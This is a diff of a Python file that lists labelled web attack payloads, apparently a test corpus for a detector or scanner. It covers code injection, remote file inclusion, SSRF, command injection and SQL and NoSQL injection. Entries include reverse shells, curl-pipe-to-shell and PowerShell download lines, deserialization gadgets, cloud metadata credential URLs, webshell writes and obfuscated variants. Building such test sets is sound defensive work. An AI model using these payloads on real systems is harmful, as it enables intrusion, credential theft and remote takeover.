+        "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('whoami')",
+        "form",
+        param="name",
+    ),
+    A(
+        "__proto__",
+        "json_key",
+        ep="/api/users/me/preferences",
+        doc={
+            "profile": {
+                "theme": "dark",
+                KMARK: {"outputFunctionName": "x;process.mainModule.require('child_process').execSync('id');x"},
+            }
+        },
+    ),
     A("constructor[prototype][NODE_OPTIONS]", "query_key", kval="--require /proc/self/environ", ep="/api/v1/search"),
     A("%x(cat /etc/passwd)", "form", param="q", ep="/tools/evaluate"),
     A("IO.popen('id').read", "json", param="value", deep=3),
-    A("--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::SpecFetcher\ni: y\n--- !ruby/object:Gem::Requirement\nrequirements:\n"
-      "  !ruby/object:Gem::Package::TarReader\n  io: &1 !ruby/object:Net::BufferedIO\n    io: &1 !ruby/object:Gem::Package::TarReader::Entry\n"
-      "       read: 0\n       header: \"abc\"\n    debug_output: &1 !ruby/object:Net::WriteAdapter\n       socket: &1 !ruby/object:Gem::RequestSet\n"
-      "           sets: !ruby/object:Net::WriteAdapter\n               socket: !ruby/module 'Kernel'\n               method_id: :system\n"
-      "           git_set: id\n       method_id: :resolve\n", "multipart", mp="file", fname="import.yml", fctype="text/yaml", field="file",
-      ep="/admin/import"),
+    A(
+        "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::SpecFetcher\ni: y\n--- !ruby/object:Gem::Requirement\nrequirements:\n"
+        "  !ruby/object:Gem::Package::TarReader\n  io: &1 !ruby/object:Net::BufferedIO\n    io: &1 !ruby/object:Gem::Package::TarReader::Entry\n"
+        '       read: 0\n       header: "abc"\n    debug_output: &1 !ruby/object:Net::WriteAdapter\n       socket: &1 !ruby/object:Gem::RequestSet\n'
+        "           sets: !ruby/object:Net::WriteAdapter\n               socket: !ruby/module 'Kernel'\n               method_id: :system\n"
+        "           git_set: id\n       method_id: :resolve\n",
+        "multipart",
+        mp="file",
+        fname="import.yml",
+        fctype="text/yaml",
+        field="file",
+        ep="/admin/import",
+    ),
     A("\".system('id').\"", "query", param="greeting", ep="/cgi-bin/hello.pl"),
     A('os.execute("id")', "json", param="script", ep="/api/gateway/plugins"),
     A('System.Diagnostics.Process.Start("cmd.exe","/c whoami")', "json", param="expression", ep="/api/reports/formula"),
@@ -1197,49 +1872,129 @@ CODE = [
     A("().__class__.__bases__[0].__subclasses__()", "query", param="q", ep="/sandbox/run"),
     A("require('fs').readFileSync('/etc/passwd','utf8')", "json", param="sortBy", ep="/api/v2/filters"),
     A("new Function('return process')().env", "form", param="handler"),
-    A("vm.runInNewContext(\"this.constructor.constructor('return process')().exit()\")", "json", param="rule", ep="/api/automation/rules"),
-    A("mutation { runReport(expression: \"__import__('os').popen('id').read()\") { result } }", "json", ep="/graphql",
-      doc={"query": MARK, "variables": {}}),
-    A("{\"transform\":\"require('child_process').execSync('cat /etc/shadow')\"}", "json", param="config", ep="/api/v1/transform"),
-    A("{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id',function(e,s){console.log(s)})}()\"}", "cookie", ck="profile"),
-    A("__import__(\"subprocess\").getoutput(\"id\")", "xml", param="formula", ep="/api/legacy/evaluate"),
+    A(
+        "vm.runInNewContext(\"this.constructor.constructor('return process')().exit()\")",
+        "json",
+        param="rule",
+        ep="/api/automation/rules",
+    ),
+    A(
+        "mutation { runReport(expression: \"__import__('os').popen('id').read()\") { result } }",
+        "json",
+        ep="/graphql",
+        doc={"query": MARK, "variables": {}},
+    ),
+    A(
+        "{\"transform\":\"require('child_process').execSync('cat /etc/shadow')\"}",
+        "json",
+        param="config",
+        ep="/api/v1/transform",
+    ),
+    A(
+        "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id',function(e,s){console.log(s)})}()\"}",
+        "cookie",
+        ck="profile",
+    ),
+    A('__import__("subprocess").getoutput("id")', "xml", param="formula", ep="/api/legacy/evaluate"),
     A('System.cmd("id", [])', "json", param="code", ep="/sandbox/run"),
     A('system("id", intern=TRUE)', "json", param="expr", ep="/api/stats/eval"),
-    A("cposix\nsystem\n(Vcurl -s 198.51.100.8/i|sh\ntR.", "multipart", mp="file", fname="model.pkl", fctype="application/octet-stream",
-      field="model", ep="/api/ml/models/upload"),
+    A(
+        "cposix\nsystem\n(Vcurl -s 198.51.100.8/i|sh\ntR.",
+        "multipart",
+        mp="file",
+        fname="model.pkl",
+        fctype="application/octet-stream",
+        field="model",
+        ep="/api/ml/models/upload",
+    ),
     A("require('child_process').spawnSync('sh',['-c','id']).stdout+''", "query", param="transform"),
     # ---- hard
     A("getattr(__builtins__,'__imp'+'ort__')('o'+'s').system('id')", "query", 1, param="expr"),
     A("eval(bytes.fromhex('%s').decode())" % _pyhex, "json", 1, param="formula"),
     A("exec(__import__('base64').b64decode('%s'))" % _pyb64, "form", 1, param="code"),
     A("exec(''.join(map(chr,[%s])))" % _pychr, "json", 1, param="value", deep=6),
-    A("[].constructor.constructor('return this.process')().mainModule.require('child_process').execSync('id')", "json", 1, param="callback"),
-    A("this['constru'+'ctor']['constru'+'ctor']('return pro'+'cess')()['mainModule']['require']('child_'+'process')['execSync']('id')",
-      "form", 1, param="transform"),
+    A(
+        "[].constructor.constructor('return this.process')().mainModule.require('child_process').execSync('id')",
+        "json",
+        1,
+        param="callback",
+    ),
+    A(
+        "this['constru'+'ctor']['constru'+'ctor']('return pro'+'cess')()['mainModule']['require']('child_'+'process')['execSync']('id')",
+        "form",
+        1,
+        param="transform",
+    ),
     A("\\u0072equire('child_process').execSync('id')", "json", 1, param="filter"),
     A("require('\\x63hild_process')['\\x65xecSync']('id')", "query", 1, param="fn"),
     A("eval(Buffer.from('%s','base64').toString())" % _jsb64, "json", 1, param="script", deep=2),
-    A('[]["filter"]["constructor"]("return process")()["mainModule"]["require"]("child_process")["execSync"]("id")', "form", 1, param="callback"),
+    A(
+        '[]["filter"]["constructor"]("return process")()["mainModule"]["require"]("child_process")["execSync"]("id")',
+        "form",
+        1,
+        param="callback",
+    ),
     A('Kernel.public_send("sys"+"tem","id")', "json", 1, param="rule"),
     A('Kernel.method(("sy"+"stem").to_sym).call("id")', "query", 1, param="q"),
-    A("(f:=__builtins__.__dict__['ev'+'al'])(\"__import__('os').popen('id').read()\")", "multipart", 1, mp="field", param="expr"),
-    A("constructor", "json_key", 1, ep="/api/v1/settings/merge",
-      doc={"settings": {"ui": {KMARK: {"prototype": {"isAdmin": True}}}}}),
+    A(
+        "(f:=__builtins__.__dict__['ev'+'al'])(\"__import__('os').popen('id').read()\")",
+        "multipart",
+        1,
+        mp="field",
+        param="expr",
+    ),
+    A(
+        "constructor",
+        "json_key",
+        1,
+        ep="/api/v1/settings/merge",
+        doc={"settings": {"ui": {KMARK: {"prototype": {"isAdmin": True}}}}},
+    ),
     A("__pro__proto__to__[polluted]", "query_key", 1, kval="yes", ep="/api/v1/search"),
     A(_pickle2, "json", 1, param="model_state", ep="/api/ml/restore"),
-    A('!<tag:yaml.org,2002:python/object/apply:os.system> ["curl 198.51.100.9 -o /tmp/a"]\n', "multipart", 1, mp="file", fname="settings.yaml",
-      fctype="application/yaml", field="file", ep="/api/v1/projects/import"),
-    A("module.constructor._load('child_process').execSync('id')", "xml", 1, param="expression", ep="/api/legacy/evaluate"),
+    A(
+        '!<tag:yaml.org,2002:python/object/apply:os.system> ["curl 198.51.100.9 -o /tmp/a"]\n',
+        "multipart",
+        1,
+        mp="file",
+        fname="settings.yaml",
+        fctype="application/yaml",
+        field="file",
+        ep="/api/v1/projects/import",
+    ),
+    A(
+        "module.constructor._load('child_process').execSync('id')",
+        "xml",
+        1,
+        param="expression",
+        ep="/api/legacy/evaluate",
+    ),
     A("eval(String.fromCharCode(%s))" % _jschr, "cookie", 1, ck="widget_cfg"),
-    A('Type.GetType("System.Diagnostics.Pro"+"cess").GetMethod("Start",new[]{typeof(string),typeof(string)}).Invoke(null,new object[]{"cmd","/c whoami"})',
-      "json", 1, param="expression", ep="/api/reports/formula"),
+    A(
+        'Type.GetType("System.Diagnostics.Pro"+"cess").GetMethod("Start",new[]{typeof(string),typeof(string)}).Invoke(null,new object[]{"cmd","/c whoami"})',
+        "json",
+        1,
+        param="expression",
+        ep="/api/reports/formula",
+    ),
 ]
 
 # ---------------------------------------------------------------- rfi
 CTX["rfi"] = dict(
-    eps=["/index.php", "/modules/loader.php", "/page.php", "/templates/load.php", "/wp-content/plugins/gallery/inc.php", "/lang.php",
-         "/portal/view.php", "/main.php", "/cms/show.php", "/help/topic.php"],
-    params=["page", "include", "file", "template", "lang", "module", "path", "inc", "view", "doc"])
+    eps=[
+        "/index.php",
+        "/modules/loader.php",
+        "/page.php",
+        "/templates/load.php",
+        "/wp-content/plugins/gallery/inc.php",
+        "/lang.php",
+        "/portal/view.php",
+        "/main.php",
+        "/cms/show.php",
+        "/help/topic.php",
+    ],
+    params=["page", "include", "file", "template", "lang", "module", "path", "inc", "view", "doc"],
+)
 
 
 def _ip_dec(ip):
@@ -1257,25 +2012,50 @@ RFI = [
     A("http://192.0.2.77:8080/inc.php", "query", param="module"),
     A("https://raw.example-git.test/evil/shells/main/mini.php", "query", param="path"),
     A("http://203.0.113.5/shell.txt#", "query", param="view"),
-    A("http://198.51.100.5/cmd.txt?", "query", param="mosConfig_absolute_path", ep="/components/com_content/content.php"),
+    A(
+        "http://198.51.100.5/cmd.txt?",
+        "query",
+        param="mosConfig_absolute_path",
+        ep="/components/com_content/content.php",
+    ),
     A("http://203.0.113.99/id.txt??", "query", param="_SERVER[DOCUMENT_ROOT]", ep="/includes/functions.php"),
-    A("http://attacker.example/wp-load.php?", "query", param="abspath", ep="/wp-content/plugins/old-gallery/admin/upload.php"),
+    A(
+        "http://attacker.example/wp-load.php?",
+        "query",
+        param="abspath",
+        ep="/wp-content/plugins/old-gallery/admin/upload.php",
+    ),
     A("http://198.51.100.17/r.txt?", "query", param="phpbb_root_path", ep="/forum/includes/common.php"),
     A("https://evil.example/templates/default.php", "json", param="template_url", deep=2, ep="/api/site/theme"),
     A("http://203.0.113.120/tpl/header.inc", "form", param="template", ep="/admin/layout.php"),
     A("http://198.51.100.61/lang/en.php", "cookie", ck="lang", ep="/index.php"),
     A("http://203.0.113.66/mod.txt", "xml", param="module", ep="/xmlrpc/loader.php"),
     A("https://skins.evil.example/dark.php", "multipart", mp="field", param="skin", ep="/admin/appearance.php"),
-    A("data://text/plain;base64," + base64.b64encode(b"<?php echo shell_exec($_GET['c']); ?>").decode(), "query", param="page"),
+    A(
+        "data://text/plain;base64," + base64.b64encode(b"<?php echo shell_exec($_GET['c']); ?>").decode(),
+        "query",
+        param="page",
+    ),
     A("https://pastebin.example/raw/Zx8Q1m", "query", param="inc"),
     A("ftps://files.attacker.example/incl/config.php", "query", param="include"),
     A("http://198.51.100.50/shell.jpg", "query", param="file", ep="/gallery/show.php"),
     A("http://203.0.113.44/p.txt", "path", pre="/view/", ep="/view"),
     A("http://198.51.100.41/webshells/wso.txt?", "json", param="layout", ep="/api/pages/render"),
     A("http://evil.example/inc/config.inc.php?cmd=id", "form", param="page"),
-    A('query { renderPage(template: "http://203.0.113.91/t.php") { html } }', "json", ep="/graphql", doc={"query": MARK}),
+    A(
+        'query { renderPage(template: "http://203.0.113.91/t.php") { html } }',
+        "json",
+        ep="/graphql",
+        doc={"query": MARK},
+    ),
     A('{"include":"https://evil.example/x.txt"}', "json", param="options", ep="/api/widgets"),
-    A("http://198.51.100.200/plugins/evil-plugin.zip", "multipart", mp="field", param="plugin_url", ep="/admin/plugins/install"),
+    A(
+        "http://198.51.100.200/plugins/evil-plugin.zip",
+        "multipart",
+        mp="field",
+        param="plugin_url",
+        ep="/admin/plugins/install",
+    ),
     A("http://lib.attacker.example/jquery.php?v=", "query", param="inc", ep="/footer.php"),
     A("http://203.0.113.150/rfi/header.txt?", "query", param="header", ep="/layout.php", mode="raw"),
     # ---- hard
@@ -1303,19 +2083,37 @@ RFI = [
 
 # ---------------------------------------------------------------- ssrf
 CTX["ssrf"] = dict(
-    eps=["/api/v1/webhooks", "/api/fetch", "/proxy", "/api/import/url", "/api/v2/avatar", "/tools/screenshot", "/api/pdf/render",
-         "/api/preview/link", "/integrations/test", "/image-proxy"],
-    params=["url", "target", "src", "callback", "webhook", "image_url", "feed", "uri", "link", "endpoint"])
+    eps=[
+        "/api/v1/webhooks",
+        "/api/fetch",
+        "/proxy",
+        "/api/import/url",
+        "/api/v2/avatar",
+        "/tools/screenshot",
+        "/api/pdf/render",
+        "/api/preview/link",
+        "/integrations/test",
+        "/image-proxy",
+    ],
+    params=["url", "target", "src", "callback", "webhook", "image_url", "feed", "uri", "link", "endpoint"],
+)
 
 SSRF = [
     A("http://169.254.169.254/latest/meta-data/iam/security-credentials/", "query", param="url"),
-    A("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", "json", param="webhook_url",
-      ep="/api/v1/webhooks"),
+    A(
+        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
+        "json",
+        param="webhook_url",
+        ep="/api/v1/webhooks",
+    ),
     A("http://100.100.100.200/latest/meta-data/ram/security-credentials/", "form", param="feed"),
     A("http://169.254.169.254/metadata/instance?api-version=2021-02-01", "json", param="callbackUrl", deep=2),
     A("http://127.0.0.1:6379/", "query", param="target"),
-    A("gopher://127.0.0.1:6379/_*1%0d%0a$8%0d%0aflushall%0d%0a*3%0d%0a$3%0d%0aset%0d%0a$1%0d%0a1%0d%0a$34%0d%0a<?php system($_GET[c]); ?>%0d%0a",
-      "json", param="url"),
+    A(
+        "gopher://127.0.0.1:6379/_*1%0d%0a$8%0d%0aflushall%0d%0a*3%0d%0a$3%0d%0aset%0d%0a$1%0d%0a1%0d%0a$34%0d%0a<?php system($_GET[c]); ?>%0d%0a",
+        "json",
+        param="url",
+    ),
     A("dict://127.0.0.1:11211/stats", "query", param="uri"),
     A("file:///etc/passwd", "json", param="image_url", ep="/api/v2/avatar"),
     A("http://localhost:2375/containers/json", "form", param="endpoint", ep="/integrations/test"),
@@ -1329,16 +2127,42 @@ SSRF = [
     A("http://192.168.0.1/cgi-bin/luci", "query", param="src"),
     A("http://10.0.0.5:8080/manager/html", "multipart", mp="field", param="remote_url", ep="/api/import/url"),
     A("http://localhost:15672/api/users", "query", param="url"),
-    A("http://127.0.0.1:5984/_all_dbs", "json", ep="/_replicate", doc={"source": MARK, "target": "backup", "continuous": False}),
+    A(
+        "http://127.0.0.1:5984/_all_dbs",
+        "json",
+        ep="/_replicate",
+        doc={"source": MARK, "target": "backup", "continuous": False},
+    ),
     A("http://169.254.170.2/v2/credentials/", "query", param="url"),
     A("ldap://127.0.0.1:389/dc=corp,dc=internal", "form", param="directory_url", ep="/admin/sso/test"),
-    A('mutation { importFeed(url: "http://localhost:8001/api/v1/namespaces/default/pods") { id status } }', "json", ep="/graphql",
-      doc={"query": MARK, "variables": {}}),
-    A('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">\n'
-      '  <image xlink:href="http://169.254.169.254/latest/user-data" width="64" height="64"/>\n</svg>\n', "multipart", mp="file",
-      fname="avatar.svg", fctype="image/svg+xml", field="avatar", ep="/api/v2/avatar"),
-    A('<iframe src="http://127.0.0.1:8080/admin" width="800" height="600"></iframe>', "json", param="html", ep="/api/pdf/render"),
-    A("http://metadata.google.internal/computeMetadata/v1beta1/project/attributes/ssh-keys?alt=json", "query", param="image", ep="/image-proxy"),
+    A(
+        'mutation { importFeed(url: "http://localhost:8001/api/v1/namespaces/default/pods") { id status } }',
+        "json",
+        ep="/graphql",
+        doc={"query": MARK, "variables": {}},
+    ),
+    A(
+        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">\n'
+        '  <image xlink:href="http://169.254.169.254/latest/user-data" width="64" height="64"/>\n</svg>\n',
+        "multipart",
+        mp="file",
+        fname="avatar.svg",
+        fctype="image/svg+xml",
+        field="avatar",
+        ep="/api/v2/avatar",
+    ),
+    A(
+        '<iframe src="http://127.0.0.1:8080/admin" width="800" height="600"></iframe>',
+        "json",
+        param="html",
+        ep="/api/pdf/render",
+    ),
+    A(
+        "http://metadata.google.internal/computeMetadata/v1beta1/project/attributes/ssh-keys?alt=json",
+        "query",
+        param="image",
+        ep="/image-proxy",
+    ),
     A("jar:http://127.0.0.1:8080/upload/evil.jar!/", "json", param="schemaLocation"),
     A("netdoc:///etc/passwd", "query", param="uri"),
     A("http://127.0.0.1:2379/v2/keys/?recursive=true", "query", param="proxy_url"),
@@ -1368,9 +2192,20 @@ SSRF = [
 
 # ---------------------------------------------------------------- rce
 CTX["rce"] = dict(
-    eps=["/api/network/ping", "/admin/diagnostics", "/cgi-bin/status", "/tools/dns-lookup", "/api/v1/convert", "/api/backup/run",
-         "/admin/system/traceroute", "/api/media/thumbnail", "/api/git/clone", "/device/setup.cgi"],
-    params=["host", "ip", "target", "domain", "filename", "file", "cmd", "addr", "name", "format"])
+    eps=[
+        "/api/network/ping",
+        "/admin/diagnostics",
+        "/cgi-bin/status",
+        "/tools/dns-lookup",
+        "/api/v1/convert",
+        "/api/backup/run",
+        "/admin/system/traceroute",
+        "/api/media/thumbnail",
+        "/api/git/clone",
+        "/device/setup.cgi",
+    ],
+    params=["host", "ip", "target", "domain", "filename", "file", "cmd", "addr", "name", "format"],
+)
 
 _ps = base64.b64encode("iwr http://203.0.113.9/a -OutFile $env:TEMP\\a.exe".encode("utf-16-le")).decode()
 _ps2 = base64.b64encode(b"IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.6/r')").decode()
@@ -1386,14 +2221,33 @@ RCE = [
     A("google.com; bash -i >& /dev/tcp/203.0.113.3/4444 0>&1", "form", param="domain"),
     A("127.0.0.1 & whoami", "query", param="ip"),
     A("test.txt | type C:\\Windows\\win.ini", "query", param="file"),
-    A("x & powershell -NoP -W Hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.5/a.ps1')\"", "json", param="host"),
-    A("a.jpg & certutil -urlcache -split -f http://203.0.113.9/p.exe C:\\Users\\Public\\p.exe", "multipart", mp="filename", field="file",
-      fctype="text/plain", fcontent="x\n", ep="/api/media/thumbnail"),
+    A(
+        "x & powershell -NoP -W Hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.5/a.ps1')\"",
+        "json",
+        param="host",
+    ),
+    A(
+        "a.jpg & certutil -urlcache -split -f http://203.0.113.9/p.exe C:\\Users\\Public\\p.exe",
+        "multipart",
+        mp="filename",
+        field="file",
+        fctype="text/plain",
+        fcontent="x\n",
+        ep="/api/media/thumbnail",
+    ),
     A("127.0.0.1;nc -e /bin/sh 203.0.113.3 4444", "header", hdr="X-Forwarded-For", ep="/admin/diagnostics"),
     A("--upload-pack=touch /tmp/pwned", "json", param="branch", ep="/api/git/clone"),
     A("-oProxyCommand=curl 203.0.113.4|sh", "form", param="ssh_host", ep="/admin/deploy/test"),
     A("--output=/var/www/html/s.php http://203.0.113.2/s.txt", "query", param="url", ep="/tools/fetch"),
-    A("$(id).png", "multipart", mp="filename", field="image", fctype="text/plain", fcontent="placeholder\n", ep="/api/media/thumbnail"),
+    A(
+        "$(id).png",
+        "multipart",
+        mp="filename",
+        field="image",
+        fctype="text/plain",
+        fcontent="placeholder\n",
+        ep="/api/media/thumbnail",
+    ),
     A("8.8.8.8\nid", "query", param="ip"),
     A("| wget http://198.51.100.20/bot -O /tmp/bot; chmod +x /tmp/bot; /tmp/bot", "json", param="addr"),
     A("; cat /proc/self/environ", "xml", param="hostname", ep="/device/setup.cgi"),
@@ -1402,7 +2256,7 @@ RCE = [
     A("| net user backup P@ss123 /add", "query", param="ip"),
     A("; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB3xq attacker' >> ~/.ssh/authorized_keys", "json", param="name"),
     A("&& python3 -c 'import pty;pty.spawn(\"/bin/sh\")'", "form", param="target"),
-    A("; php -r '$s=fsockopen(\"203.0.113.3\",1234);exec(\"sh <&3 >&3 2>&3\");'", "json", param="host"),
+    A('; php -r \'$s=fsockopen("203.0.113.3",1234);exec("sh <&3 >&3 2>&3");\'', "json", param="host"),
     A('mutation { ping(host: "127.0.0.1; cat /etc/hosts") { output } }', "json", ep="/graphql", doc={"query": MARK}),
     A('{"cmd":"ls","args":"-la; id"}', "json", param="job", ep="/api/backup/run"),
     A("$(curl -s http://198.51.100.4/k|sh)", "multipart", mp="field", param="hostname", ep="/admin/diagnostics"),
@@ -1421,23 +2275,45 @@ RCE = [
     A("127.0.0.1\t&&\tid", "form", 1, param="ip"),
     A(";cat</etc/passwd", "json", 1, param="target"),
     A("& who^ami", "query", 1, param="host"),
-    A("& p\"\"ow\"\"er^shell -e " + _ps, "json", 1, param="host", deep=2),
+    A('& p""ow""er^shell -e ' + _ps, "json", 1, param="host", deep=2),
     A("& %COMSPEC% /c dir C:\\", "form", 1, param="file"),
     A("&set x=whoa&&call %x%mi", "multipart", 1, mp="field", param="target"),
     A(";${PATH:0:1}usr${PATH:0:1}bin${PATH:0:1}id", "query", 1, param="domain"),
     A(";X=$'cat\\x20/etc/passwd'&&$X", "json", 1, param="addr"),
     A(";$(rev<<<'di')", "query", 1, param="name"),
-    A("|IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('%s')))" % _ps2, "xml", 1, param="hostname", ep="/device/setup.cgi"),
+    A(
+        "|IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('%s')))" % _ps2,
+        "xml",
+        1,
+        param="hostname",
+        ep="/device/setup.cgi",
+    ),
 ]
 
 # ---------------------------------------------------------------- sqli
 CTX["sqli"] = dict(
-    eps=["/products", "/api/v2/orders", "/search", "/catalog/items", "/reports/sales", "/api/users", "/news/article", "/api/inventory",
-         "/api/analytics/query", "/shop/category"],
-    params=["id", "category", "sort", "q", "order_id", "user", "filter", "from", "year", "product_id"])
+    eps=[
+        "/products",
+        "/api/v2/orders",
+        "/search",
+        "/catalog/items",
+        "/reports/sales",
+        "/api/users",
+        "/news/article",
+        "/api/inventory",
+        "/api/analytics/query",
+        "/shop/category",
+    ],
+    params=["id", "category", "sort", "q", "order_id", "user", "filter", "from", "year", "product_id"],
+)
 
 SQLI = [
-    A("' OR '1'='1' -- -", "form", ep="/login", fields=[("username", MARK), ("password", "hunter2"), ("remember", "on")]),
+    A(
+        "' OR '1'='1' -- -",
+        "form",
+        ep="/login",
+        fields=[("username", MARK), ("password", "hunter2"), ("remember", "on")],
+    ),
     A("1 UNION SELECT username,password FROM users--", "query", param="id"),
     A("1 AND SLEEP(5)", "query", param="product_id"),
     A("1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -", "query", param="category"),
@@ -1446,12 +2322,26 @@ SQLI = [
     A("1' AND extractvalue(1,concat(0x7e,version()))-- -", "query", param="id"),
     A("1 AND 1=CAST((SELECT version()) AS int)", "json", param="id"),
     A("'||(SELECT pg_sleep(5))||'", "form", param="filter"),
-    A("price DESC, (SELECT CASE WHEN (SELECT substr(password,1,1) FROM users WHERE id=1)='a' THEN 1 ELSE 1/0 END)", "query", param="sort"),
+    A(
+        "price DESC, (SELECT CASE WHEN (SELECT substr(password,1,1) FROM users WHERE id=1)='a' THEN 1 ELSE 1/0 END)",
+        "query",
+        param="sort",
+    ),
     A("admin'--", "form", ep="/login", fields=[("email", MARK), ("password", "x")]),
     A("' UNION SELECT sql,2,3 FROM sqlite_master--", "query", param="q"),
     A("' UNION ALL SELECT name, engine FROM system.tables --", "query", param="filter", ep="/api/analytics/query"),
-    A("1 UNION ALL SELECT * FROM url('http://203.0.113.5/x.csv','CSV','a String')", "json", param="dashboard_id", ep="/api/analytics/query"),
-    A("' UNION SELECT CURRENT_ACCOUNT(), CURRENT_ROLE(), CURRENT_WAREHOUSE() --", "query", param="region", ep="/reports/sales"),
+    A(
+        "1 UNION ALL SELECT * FROM url('http://203.0.113.5/x.csv','CSV','a String')",
+        "json",
+        param="dashboard_id",
+        ep="/api/analytics/query",
+    ),
+    A(
+        "' UNION SELECT CURRENT_ACCOUNT(), CURRENT_ROLE(), CURRENT_WAREHOUSE() --",
+        "query",
+        param="region",
+        ep="/reports/sales",
+    ),
     A("'; CALL SYSTEM$WAIT(5); --", "form", param="warehouse"),
     A("' UNION SELECT banner,NULL FROM v$version--", "query", param="user"),
     A("' AND 1=UTL_INADDR.get_host_address((SELECT user FROM dual))--", "cookie", ck="store_pref"),
@@ -1461,13 +2351,23 @@ SQLI = [
     A("1; COPY (SELECT '') TO PROGRAM 'curl 198.51.100.3'--", "query", param="from"),
     A("' UNION SELECT LOAD_FILE('/etc/passwd'),2--", "query", param="q"),
     A("' UNION SELECT '<?php system($_GET[1]);?>' INTO OUTFILE '/var/www/html/s.php'-- -", "form", param="search"),
-    A("x' UNION ALL SELECT schema_name FROM `region-us`.INFORMATION_SCHEMA.SCHEMATA --", "json", param="dataset", ep="/api/analytics/query"),
+    A(
+        "x' UNION ALL SELECT schema_name FROM `region-us`.INFORMATION_SCHEMA.SCHEMATA --",
+        "json",
+        param="dataset",
+        ep="/api/analytics/query",
+    ),
     A("' UNION SELECT * FROM read_csv_auto('/etc/passwd') --", "query", param="file_id"),
-    A('{ users(filter: "name = \'a\' OR 1=1 --") { id email } }', "json", ep="/graphql", doc={"query": MARK}),
+    A("{ users(filter: \"name = 'a' OR 1=1 --\") { id email } }", "json", ep="/graphql", doc={"query": MARK}),
     A('{"status":"active\' OR 1=1 -- "}', "json", param="where", ep="/api/v2/orders/search"),
     A("-1 UNION SELECT NULL,table_name,NULL FROM information_schema.tables-- -", "cookie", ck="user_id"),
-    A("'; CREATE ALIAS SHELLEXEC AS $$ String s(String c) throws Exception { return new String(Runtime.getRuntime().exec(c).getInputStream().readAllBytes()); } $$; CALL SHELLEXEC('id');--",
-      "multipart", mp="field", param="report_name", ep="/reports/custom"),
+    A(
+        "'; CREATE ALIAS SHELLEXEC AS $$ String s(String c) throws Exception { return new String(Runtime.getRuntime().exec(c).getInputStream().readAllBytes()); } $$; CALL SHELLEXEC('id');--",
+        "multipart",
+        mp="field",
+        param="report_name",
+        ep="/reports/custom",
+    ),
     # ---- hard
     A("1/**/UNION/**/SELECT/**/user,password/**/FROM/**/mysql.user#", "query", 1, param="id"),
     A("1 /*!50000UNION*/ /*!50000SELECT*/ 1,@@version,3-- -", "query", 1, param="category"),
@@ -1486,17 +2386,33 @@ SQLI = [
     A("'OR'x'LIKE'x", "cookie", 1, ck="cart_id"),
     A("'||(SELECT LISTAGG(name,',') FROM SNOWFLAKE.ACCOUNT_USAGE.USERS)||'", "json", 1, param="warehouse", deep=3),
     A("'||(SELECT CHAR(115,113,108)||sqlite_version())||'", "multipart", 1, mp="field", param="title"),
-    A("5' AND 1=(SELECT COUNT(*) FROM pg_stat_activity)--", "json", 1, ep="/graphql",
-      doc={"query": "query($id: String!) { order(id: $id) { id total status } }", "variables": {"id": MARK}}),
+    A(
+        "5' AND 1=(SELECT COUNT(*) FROM pg_stat_activity)--",
+        "json",
+        1,
+        ep="/graphql",
+        doc={"query": "query($id: String!) { order(id: $id) { id total status } }", "variables": {"id": MARK}},
+    ),
     A("1'#\nUNION\nSELECT password FROM users#", "form", 1, param="id"),
     A("1 AND `id`=`id` UNION SELECT 1,2,group_concat(email)", "xml", 1, param="productId", ep="/api/legacy/catalog"),
 ]
 
 # ---------------------------------------------------------------- nosqli
 CTX["nosqli"] = dict(
-    eps=["/api/auth/login", "/api/v1/users/search", "/api/products", "/api/v2/orders/find", "/login", "/api/posts", "/api/accounts/lookup",
-         "/api/inventory/query", "/api/sessions", "/api/v1/tickets"],
-    params=["username", "password", "filter", "where", "q", "email", "token", "role", "status", "owner"])
+    eps=[
+        "/api/auth/login",
+        "/api/v1/users/search",
+        "/api/products",
+        "/api/v2/orders/find",
+        "/login",
+        "/api/posts",
+        "/api/accounts/lookup",
+        "/api/inventory/query",
+        "/api/sessions",
+        "/api/v1/tickets",
+    ],
+    params=["username", "password", "filter", "where", "q", "email", "token", "role", "status", "owner"],
+)
 
 NOSQLI = [
     A('{"$ne":null}', "json", jobj=True, ep="/api/auth/login", doc={"username": "admin", "password": MARK}),
@@ -1506,27 +2422,69 @@ NOSQLI = [
     A('{"$where":"sleep(5000)||true"}', "json", jobj=True, param="filter"),
     A('{"$where":"this.password.match(/^adm/)"}', "json", jobj=True, param="query", ep="/api/v1/users/search"),
     A('{"$expr":{"$gt":[{"$strLenCP":"$password"},5]}}', "json", jobj=True, param="filter", deep=1),
-    A('{"$expr":{"$function":{"body":"function(){ return sleep(3000) || true; }","args":[],"lang":"js"}}}', "json", jobj=True, param="where"),
-    A('[{"$lookup":{"from":"users","localField":"owner","foreignField":"_id","as":"u"}}]', "json", jobj=True, param="pipeline",
-      ep="/api/reports/aggregate"),
+    A(
+        '{"$expr":{"$function":{"body":"function(){ return sleep(3000) || true; }","args":[],"lang":"js"}}}',
+        "json",
+        jobj=True,
+        param="where",
+    ),
+    A(
+        '[{"$lookup":{"from":"users","localField":"owner","foreignField":"_id","as":"u"}}]',
+        "json",
+        jobj=True,
+        param="pipeline",
+        ep="/api/reports/aggregate",
+    ),
     A("'; return true; var x='", "query", param="name"),
     A("' || 'a'=='a", "query", param="q"),
     A('{"$or":[{},{"a":"a"}]}', "json", jobj=True, param="filter"),
-    A('{"$in":["admin","root","administrator"]}', "json", jobj=True, ep="/api/auth/login", doc={"username": MARK, "password": {"$exists": True}}),
+    A(
+        '{"$in":["admin","root","administrator"]}',
+        "json",
+        jobj=True,
+        ep="/api/auth/login",
+        doc={"username": MARK, "password": {"$exists": True}},
+    ),
     A('{"$exists":true}', "cookie", ck="role_filter", ep="/api/posts"),
